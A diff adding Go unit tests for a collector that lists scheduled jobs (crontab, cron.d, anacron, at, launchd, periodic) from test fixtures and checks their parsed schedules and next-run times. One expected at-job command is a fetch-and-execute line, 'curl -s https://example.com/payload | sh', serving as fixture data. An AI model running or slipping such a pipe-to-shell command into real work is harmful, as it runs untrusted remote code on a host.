@@ -0,0 +1,64 @@
+package scheduledjobs
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestJobs(t *testing.T) {
+	t.Parallel()
+
+	// A Wednesday
+	now := time.Date(2024, time.January, 10, 14, 37, 20, 0, time.UTC)
+	c := &collector{
+		fsys: os.DirFS(filepath.Join("testdata", "root")),
+		now:  now,
+	}
+
+	jobs, err := c.jobs()
+	require.NoError(t, err)
+
+	atRun := time.Unix(0x01c3a0c0*60, 0)
+
+	require.Equal(t, []job{
+		{source: sourceCrontab, path: "/etc/crontab", username: "root", schedule: "17 * * * *", command: "cd / && run-parts --report /etc/cron.hourly", nextRun: time.Date(2024, time.January, 10, 15, 17, 0, 0, time.UTC)},
+		{source: sourceCrontab, path: "/etc/crontab", username: "root", schedule: "25 6 * * *", command: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", nextRun: time.Date(2024, time.January, 11, 6, 25, 0, 0, time.UTC)},
+		{source: sourceCrontab, path: "/etc/crontab", username: "root", schedule: "@reboot", command: "/usr/local/bin/on-boot.sh"},
+		{source: sourceCronD, path: "/etc/cron.d/backup", username: "backup", schedule: "*/15 9-17 * * mon-fri", command: "/opt/backup/run.sh --incremental", nextRun: time.Date(2024, time.January, 10, 14, 45, 0, 0, time.UTC)},
+		{source: sourceCronD, path: "/etc/cron.d/backup", username: "backup", schedule: "0 0 30 2 *", command: "/opt/backup/never.sh"},
+		{source: sourceUserCrontab, path: "/var/spool/cron/crontabs/alice", username: "alice", schedule: "0 12 1 * *", command: "/home/alice/.local/bin/sync   --all", nextRun: time.Date(2024, time.February, 1, 12, 0, 0, 0, time.UTC)},
+		{source: sourceRunParts, path: "/etc/cron.daily/logrotate", username: "root", schedule: "@daily", command: "/etc/cron.daily/logrotate"},
+		{source: sourceAnacron, path: "/etc/anacrontab", username: "root", label: "cron.daily", schedule: "every 1 days", command: "run-parts --report /etc/cron.daily", nextRun: time.Date(2024, time.January, 2, 0, 5, 0, 0, time.UTC)},
+		{source: sourceAnacron, path: "/etc/anacrontab", username: "root", label: "cron.weekly", schedule: "every 7 days", command: "run-parts --report /etc/cron.weekly", nextRun: time.Date(2024, time.January, 1, 0, 10, 0, 0, time.UTC)},
+		{source: sourceAnacron, path: "/etc/anacrontab", username: "root", label: "cron.monthly", schedule: "@monthly", command: "run-parts --report /etc/cron.monthly"},
+		{source: sourceAt, path: "/var/spool/cron/atjobs/a0001b01c3a0c0", username: "4242", label: "27", schedule: "once", command: "curl -s https://example.com/payload | sh\necho done", nextRun: atRun},
+		{source: sourceAt, path: "/var/at/jobs/a0000201c3a0c0", username: "4243", label: "2", schedule: "once", command: "say hello", nextRun: atRun},
+		{source: sourceLaunchd, path: "/Library/LaunchDaemons/com.example.nightly.plist", username: "root", label: "com.example.nightly", schedule: "30 2 * * *", command: "/usr/local/bin/nightly --full", nextRun: time.Date(2024, time.January, 11, 2, 30, 0, 0, time.UTC)},
+		{source: sourceLaunchd, path: "/Library/LaunchDaemons/com.example.nightly.plist", username: "root", label: "com.example.nightly", schedule: "0 12 * * 0", command: "/usr/local/bin/nightly --full", nextRun: time.Date(2024, time.January, 14, 12, 0, 0, 0, time.UTC)},
+		{source: sourceLaunchd, path: "/System/Library/LaunchDaemons/com.apple.periodic-daily.plist", username: "root", label: "com.apple.periodic-daily", schedule: "15 3 * * *", command: "/usr/libexec/periodic-wrapper daily", nextRun: time.Date(2024, time.January, 11, 3, 15, 0, 0, time.UTC)},
+		{source: sourceLaunchd, path: "/Users/alice/Library/LaunchAgents/com.example.hourly.plist", username: "alice", label: "com.example.hourly", schedule: "5 * * * *", command: "/Users/alice/bin/hourly", nextRun: time.Date(2024, time.January, 10, 15, 5, 0, 0, time.UTC)},
+		{source: sourcePeriodic, path: "/etc/periodic/daily/110.clean-tmps", username: "root", label: "daily", schedule: "15 3 * * *", command: "/etc/periodic/daily/110.clean-tmps", nextRun: time.Date(2024, time.January, 11, 3, 15, 0, 0, time.UTC)},
+	}, jobs)
+}
+
+func TestParseAtScript_NoCommands(t *testing.T) {
+	t.Parallel()
+
+	uid, command := parseAtScript([]byte("#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n"))
+	require.Equal(t, "0", uid)
+	require.Empty(t, command)
+}
+
+func TestIsEnvironmentAssignment(t *testing.T) {
+	t.Parallel()
+
+	require.True(t, isEnvironmentAssignment("MAILTO=root"))
+	require.True(t, isEnvironmentAssignment("PATH = /usr/bin:/bin"))
+	require.False(t, isEnvironmentAssignment("0 * * * * FOO=bar /bin/true"))
+	require.False(t, isEnvironmentAssignment("@daily FOO=bar /bin/true"))
+	require.False(t, isEnvironmentAssignment("*/5 * * * * /bin/true"))
+}